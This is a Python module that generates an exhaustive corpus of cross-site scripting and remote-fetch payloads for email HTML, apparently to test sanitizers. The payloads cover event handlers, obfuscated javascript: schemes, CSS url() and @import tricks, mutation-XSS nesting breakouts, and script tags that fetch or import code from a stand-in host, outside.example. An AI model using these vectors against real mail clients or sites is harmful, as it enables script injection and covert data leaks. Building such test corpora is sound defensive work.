"""Hostile pieces of mail, made from lists and a grammar: every way known to us of making a page run or fetch something.

`PROOF` is what a piece does when it runs: it marks the window, or the page around it, and asks an address outside.
`every()` is the product of elements, events, attributes, encodings, styles, foreign markup and broken nesting.
"""

from __future__ import annotations

import base64
import html
import itertools
import urllib.parse
from collections.abc import Iterator

OUT = "//outside.example"
PROOF = "top.owned=1"
ELEMENTS = (
    *("a", "abbr", "article", "audio", "b", "blockquote", "body", "button", "canvas", "center", "details", "dialog"),
    *("div", "embed", "fieldset", "font", "form", "frame", "frameset", "iframe", "img", "input", "isindex", "keygen"),
    *("label", "link", "marquee", "math", "menuitem", "meter", "object", "option", "p", "picture", "portal", "pre"),
    *("select", "slot", "source", "span", "style", "summary", "svg", "table", "td", "template", "textarea", "track"),
    *("video", "xmp", "x-y", "noscript", "plaintext", "listing", "image", "applet", "bgsound", "layer"),
)
EVENTS = (
    *("onload", "onerror", "onfocus", "onblur", "onclick", "onmouseover", "onmouseenter", "onpointerover", "onwheel"),
    *("onanimationstart", "ontransitionend", "ontoggle", "onbeforetoggle", "onscroll", "onscrollend", "onresize"),
    *("onpageshow", "onhashchange", "onmessage", "onbegin", "onend", "onrepeat", "onstart", "onfinish", "oncanplay"),
    *("onloadstart", "onprogress", "onsuspend", "onstalled", "oncopy", "onpaste", "onselect", "onsubmit", "oninvalid"),
    *("onkeydown", "oncontextmenu", "onpropertychange", "onreadystatechange", "oncontentvisibilityautostatechange"),
)
TRIGGERS = 'src=x autofocus tabindex=1 open style="animation:a 1ms;content-visibility:auto" contenteditable'
SEPARATORS = (" ", "\t", "\n", "\f", "/", "\r\n", " /", "\x00", "\x0b", "&#32;")
QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A;&#x61;vascript:{}",
    "&#0000106avascript:{}",
    "javascript&#58;{}",
    "vbscript:{}",
    "livescript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg onload='{}'/>",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}!/",
    "javascript://%0A{}",
    "blob:{}",
    "about:{}",
    "\u2028javascript:{}",
    "javascript\u00ad:{}",
    "ｊavascript:{}",
    "http:" + OUT + "/?{}",
    OUT + "/?{}",
    "\\\\outside.example\\{}",
    "https:/outside.example/{}",
    "cid:{}",
    "mhtml:http:" + OUT + "!{}",
    "intent:{}#Intent;end",
)
ADDRESSED = (
    "<a href={0}>x</a>",
    "<area href={0}>",
    "<img src={0}>",
    "<img srcset={0}>",
    "<iframe src={0}></iframe>",
    "<form action={0}><button>x</button></form>",
    "<button formaction={0}>x</button>",
    "<input type=image src={0}>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<base href={0}>",
    "<link rel=stylesheet href={0}>",
    "<meta http-equiv=refresh content=0;url={0}>",
    "<video src={0} autoplay>",
    "<body background={0}>",
    "<svg><a xlink:href={0}><text>x</text></a></svg>",
    "<svg><image href={0} /></svg>",
    "<svg><use href={0} /></svg>",
    "<svg><animate attributeName=href values={0} /></svg>",
    "<math href={0}>x</math>",
    "<script src={0}></script>",
    "<svg><set attributeName=href to={0} /></svg>",
    "<a ping={0} href=#>x</a>",
    "<q cite={0}>x</q>",
    "<svg><feImage href={0} /></svg>",
    "<link rel=prefetch href={0}>",
    "<html manifest={0}>",
    "<table background={0}>",
    "<video poster={0}>",
    "<track src={0}>",
    "<svg><foreignObject><iframe src={0}></foreignObject></svg>",
)
STYLES = (
    "background:url({0})",
    "background:u\\72l({0})",
    "background:\\75\\72\\6c({0})",
    "background:URL( {0} )",
    "background:url('{0}')",
    'background:image-set("{0}" 1x)',
    "list-style:url({0})",
    "cursor:url({0}),auto",
    "content:url({0})",
    "border-image:url({0}) 1",
    "filter:url({0}#a)",
    "mask:url({0})",
    "clip-path:url({0}#c)",
    "-webkit-mask-image:url({0})",
    "width:expression(top.owned=1)",
    "-moz-binding:url({0}#x)",
    "behavior:url({0})",
    "background:url/**/({0})",
    "background:/**/url({0})",
    "--a:url({0});background:var(--a)",
    "background:src('{0}')",
    "shape-outside:url({0})",
    "offset-path:url({0})",
    "background:-webkit-image-set(url({0}) 1x)",
    "background:cross-fade(url({0}),url({0}))",
    "position:fixed;inset:0;z-index:9999;background:red",
)
SHEETS = (
    "@import '{0}';",
    "@import url({0});",
    "@\\69mport '{0}';",
    "@font-face{{font-family:f;src:url({0})}}*{{font-family:f}}",
    "@namespace url({0});",
    "@media all{{*{{background:url({0})}}}}",
    "@supports(a:b) or (top:0){{*{{background:url({0})}}}}",
    "*{{background:url({0})}}",
    "input[value^=a]{{background:url({0})}}",
    "</style><script>top.owned=1</script>",
    "<!--</style><img src=x onerror=top.owned=1>-->",
    "@layer a{{*{{background:url({0})}}}}",
    "@charset '{0}';",
    "@property --x{{syntax:'*';inherits:true;initial-value:url({0})}}",
    "*{{}}/*</style><svg onload=top.owned=1>*/",
)
REMOTE = ("http:" + OUT + "/c", "https:" + OUT + "/c", OUT + "/c", "ht\\74p:" + OUT + "/c", "javascript:" + PROOF)
FOREIGN = (
    "svg",
    "math",
    "svg><desc",
    "svg><title",
    "svg><foreignObject",
    "math><mtext",
    "math><mi",
    "math><annotation-xml",
)
ENCLOSING = (
    "style",
    "script",
    "title",
    "textarea",
    "noscript",
    "xmp",
    "noembed",
    "iframe",
    "template",
    "plaintext",
    "select",
)
FOLLOWING = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<!--</{1}><img src=x onerror={0}>-->",
    '<a id="</{1}><img src=x onerror={0}>">',
    "</{1}><img src=x onerror={0}>",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<table><mglyph><style><img src=x onerror={0}>",
    "&lt;img src=x onerror={0}&gt;",
    "<?xml-stylesheet href='javascript:{0}'?>",
)
CHARSETS = (
    "utf-7",
    "utf-16le",
    "utf-16be",
    "iso-2022-jp",
    "shift_jis",
    "gbk",
    "hz-gb-2312",
    "x-user-defined",
    "cp037",
    "nonsense",
)


CLOSER = "-->" + "".join(f"</{name}>" for name in ENCLOSING) + "</svg></math></select></table>"
"""Ends whatever a piece left open, so that the next one is read as HTML again."""


def every() -> list[str]:
    """All pieces, each once, in an order that does not change."""
    found = itertools.chain(_events(), _addresses(), _styles(), _nestings(), _scripts())
    return list(dict.fromkeys(found))


def _events() -> Iterator[str]:
    for n, (element, event) in enumerate(itertools.product(ELEMENTS, EVENTS)):
        space, quoted = SEPARATORS[n % len(SEPARATORS)], QUOTES[n % 3].format(PROOF)
        name = element.upper() if n % 5 == 0 else element
        written = "".join(f"&#{ord(char)};" for char in PROOF) if n % 7 == 0 else quoted
        yield f"<{name}{space}{TRIGGERS}{space}{event}={written}>x</{name}>"


def _addresses() -> Iterator[str]:
    for n, (shape, scheme) in enumerate(itertools.product(ADDRESSED, SCHEMES)):
        address = scheme.format(PROOF)
        yield shape.format(
            '"' + address.replace('"', "&quot;") + '"' if n % 4 else urllib.parse.quote(address, ":;/?=%<>'")
        )


def _styles() -> Iterator[str]:
    for style, address in itertools.product(STYLES, REMOTE):
        yield f'<p style="{html.escape(style.format(address))}">x</p>'
    for sheet, address in itertools.product(SHEETS, REMOTE):
        yield f"<style>{sheet.format(address)}</style>"


def _nestings() -> Iterator[str]:
    for outer, inner, follows in itertools.product(FOREIGN, ENCLOSING, FOLLOWING):
        yield f"<{outer}><{inner}>{follows.format(PROOF, inner)}"


def _scripts() -> Iterator[str]:
    for opened, said, closed in itertools.product(
        (
            "<script>",
            "<SCRIPT>",
            "<script\x00>",
            "<script/x>",
            "<<script>",
            "<scr<script>ipt>",
            "%3Cscript%3E",
            "\xbcscript\xbe",
        ),
        (PROOF, f"//<!--\n{PROOF}", f"/*{PROOF}*/{PROOF}", f"fetch('http:{OUT}/s')", f"import('http:{OUT}/m')"),
        ("</script>", "</script >", "</script\n>", "</SCRIPT>", "", "--></script>"),
    ):
        yield opened + said + closed


def in_words(pieces: list[str]) -> list[str]:
    """Pieces as they fit into a header field: on one line, without control characters."""
    return ["".join(char for char in piece if char.isprintable()) for piece in pieces]


def encoded_word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode('utf-8', 'replace')).decode()}?="
